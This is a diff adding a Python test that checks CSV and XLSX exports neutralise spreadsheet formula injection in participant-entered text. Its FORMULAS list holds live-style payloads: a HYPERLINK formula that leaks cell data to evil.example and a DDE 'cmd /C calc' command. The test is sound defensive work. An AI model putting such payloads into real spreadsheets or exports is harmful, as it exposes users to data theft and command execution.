@@ -139,6 +139,29 @@ def test_the_xlsx_export_has_a_bold_frozen_header_and_the_same_rows_in_english(
     assert first["Projects that adapted"] == 1
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_text_that_would_start_a_formula_is_inert_in_csv_and_stays_text_in_xlsx() -> None:
+    """What participants typed cannot run in the coordinator's spreadsheet (CSV injection)."""
+    sheet = ("t", ["what", "count"], [[f, -5] for f in FORMULAS] + [["Inovasi 2019", 3]])
+    rows = list(csv.reader(io.StringIO(to_csv(sheet), newline="")))
+    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["Inovasi 2019"]
+    assert {r[1] for r in rows[1:]} == {"-5", "3"}  # numbers are left as they are
+    ws = load_workbook(io.BytesIO(to_xlsx([sheet], "t")))["t"]
+    cells = [ws.cell(row=r, column=1) for r in range(2, len(FORMULAS) + 2)]
+    assert [c.value for c in cells] == [f.replace("\r", "\n") for f in FORMULAS]  # XML: CR → LF
+    assert {c.data_type for c in cells} == {"s"}  # … as text, never a formula
+    assert ws.cell(row=2, column=2).value == -5
+
+
 def test_the_printable_html_escapes_what_participants_wrote(bench: Bench) -> None:
     table = bench.app.reports.trace(COHORT, bench.ids["k"])
     page = sheet_page(
